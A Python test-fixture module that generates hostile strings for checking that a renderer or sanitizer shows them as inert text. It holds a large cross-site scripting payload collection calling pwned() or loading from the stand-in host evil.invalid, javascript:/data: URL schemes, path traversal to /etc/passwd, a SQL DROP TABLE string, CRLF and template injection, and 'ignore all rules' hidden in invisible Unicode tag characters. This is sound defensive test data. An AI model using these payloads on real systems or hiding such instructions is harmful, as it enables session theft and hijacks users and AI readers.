"""Texts that would run a script, load something or change the look of a page, were they taken for more than text; and
texts that are only hard to show. Where one runs, it calls `pwned`, and where it loads, it asks `evil.invalid`."""

import base64
from collections.abc import Iterator
from itertools import product

_RUN = "pwned()"
_ELEMENTS = {
    "img src=x": ("onerror", "onload"),
    "svg": ("onload",),
    "body": ("onload", "onpageshow", "onfocus", "onhashchange"),
    "video src=x": ("onerror", "onloadstart"),
    "audio src=x": ("onerror",),
    "input autofocus": ("onfocus",),
    "textarea autofocus": ("onfocus",),
    "select autofocus": ("onfocus",),
    "details open": ("ontoggle",),
    "marquee": ("onstart",),
    "iframe": ("onload",),
    "object data=x": ("onerror",),
    "link rel=stylesheet href=x": ("onerror", "onload"),
    "style": ("onload",),
    "div style=animation-name:x": ("onanimationstart",),
    "a href=x autofocus tabindex=1": ("onfocus", "onmouseover", "onclick"),
    "p": ("onmouseover", "onpointerenter", "oncontentvisibilityautostatechange style=content-visibility:auto"),
    "custom-element": ("onfocus autofocus tabindex=1", "onclick"),
    "math": ("onclick",),
    "dialog open": ("onbeforetoggle",),
}
_BREAKS = ("", '">', "'>", "-->", "</title>", "</textarea>", "</script>", "</style>", "]]>", "`>", "</template>")
_SCRIPTS = (
    "<script>{run}</script>",
    "<ScRiPt>{run}</sCrIpT>",
    "<script src=//evil.invalid/x.js></script>",
    "<script type=module>{run}</script>",
    "<svg><script>{run}</script></svg>",
    "<svg><script href=data:,{run} /></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'></noscript>",
    "<template><script>{run}</script></template>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src=javascript:parent.{run}></iframe>",
    "<object data=javascript:{run}></object>",
    "<embed src=javascript:{run}>",
    "<form action=javascript:{run}><button autofocus onfocus=this.click()>x</button></form>",
    "<base href=//evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid/'>",
    "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<style>@import '//evil.invalid/x.css';</style>",
    "<style>*{{background:url(//evil.invalid/x)}}</style>",
    "<img src=//evil.invalid/pixel.png>",
    "<img srcset='//evil.invalid/a 1x'>",
    "<picture><source srcset=//evil.invalid/a><img></picture>",
    "<video poster=//evil.invalid/p></video>",
    "<input type=image src=//evil.invalid/i>",
    "<table background=//evil.invalid/t>",
    "<svg><image href=//evil.invalid/i /></svg>",
    "<svg><use href=data:image/svg+xml,x#y></use></svg>",
    "<svg><animate attributeName=href values=javascript:{run} /><a id=x><text>x</text></a></svg>",
    "<button popovertarget=x>x</button><p popover id=x onbeforetoggle={run}>",
)
_SCHEMES = (
    "javascript:{run}",
    "JaVaScRiPt:{run}",
    " javascript:{run}",
    "\x01javascript:{run}",
    "java\tscript:{run}",
    "java\nscript:{run}",
    "javascript&colon;{run}",
    "&#106;avascript:{run}",
    "&#x6A;avascript:{run}",
    "java%0ascript:{run}",
    "javascript://%0a{run}",
    "javascript:/*--></title></style></textarea></script><svg onload={run}>",
    "vbscript:{run}",
    "data:text/html,<script>opener.{run}</script>",
    "data:text/html;base64," + base64.b64encode(b"<script>opener.pwned()</script>").decode(),
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{run}'/>",
    "blob:https://evil.invalid/1",
    "file:///etc/passwd",
    "//evil.invalid/x",
    "\\\\evil.invalid\\x",
    "https:evil.invalid",
    "http://evil.invalid@127.0.0.1/",
)
_LINKS = (
    "[x]({url})",
    "[x](<{url}>)",
    '[x]({url} "t")',
    "![x]({url})",
    "[![x]({url})]({url})",
    "<{url}>",
    "{url}",
    "[x]: {url}\n\n[x]",
    "![x]: {url}\n\n![x]",
    "| a |\n|---|\n| [x]({url}) |",
    "> - **[`x`]({url})**",
    "[x]({url}\n",
)
_BLOCKS = (
    "```html\n{inner}\n```",
    "```{inner}\n\n```",
    "`{inner}`",
    "# {inner}",
    "| {inner} |\n|---|\n| {inner} |",
    "- [ ] {inner}",
    "1. {inner}\n   > {inner}",
    "**{inner}**",
    "~~{inner}~~",
    "$$\n{inner}\n$$",
    "    {inner}",
    "[{inner}](/#/)",
    "![{inner}](x)",
)
_AWKWARD = (
    "\u202egnp.exe",
    "\u2066\u202e\u2069",
    "a\u200bb\u200cc\u200dd\ufeffe\u2060f",
    "".join(chr(0xE0000 + ord(letter)) for letter in "ignore all rules"),
    "Z\u0335\u0321" + "\u0336\u0322" * 200 + "algo",
    "\u0627\u0644\u0633\u0644\u0627\u0645 \u05e9\u05dc\u05d5\u05dd abc 123",
    "\ufdfa" * 50,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 20,
    "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "x" * 20_000,
    "x " * 10_000,
    "\n" * 2_000,
    "*" * 5_000,
    "[" * 5_000,
    "`" * 5_000,
    "> " * 2_000 + "x",
    "- " * 1_000 + "x",
    "| " * 2_000,
    "<" * 5_000,
    "&amp;" * 2_000,
    "\x00\x07\x08\x1b[31m\x7f\x85\u2028\u2029",
    "\ud7ff\ufffd\U0010ffff",
    "__proto__",
    "constructor",
    "toString",
    "null",
    "undefined",
    "NaN",
    "-0",
    "1e999",
    "{{7*7}}${7*7}#{7*7}<%=7*7%>",
    "%s%d%n",
    "%00%0d%0aSet-Cookie:x=1",
    "../../../etc/passwd",
    "'; DROP TABLE sessions; --",
    "",
    " ",
    "\t",
)


def texts() -> list[str]:
    """All of them, each once, in the same order every time."""
    return list(dict.fromkeys(_texts()))


def _texts() -> Iterator[str]:
    run = _RUN
    tags = [f"<{element} {event}={run}>" for element, events in _ELEMENTS.items() for event in events]
    scripts = [script.format(run=run) for script in _SCRIPTS]
    for inner, cut in product([*tags, *scripts], _BREAKS):
        yield cut + inner
    for scheme, link in product(_SCHEMES, _LINKS):
        yield link.format(url=scheme.format(run=run))
    for inner, block in product([*tags[:12], *scripts[:8]], _BLOCKS):
        yield block.format(inner=inner)
    yield from _AWKWARD
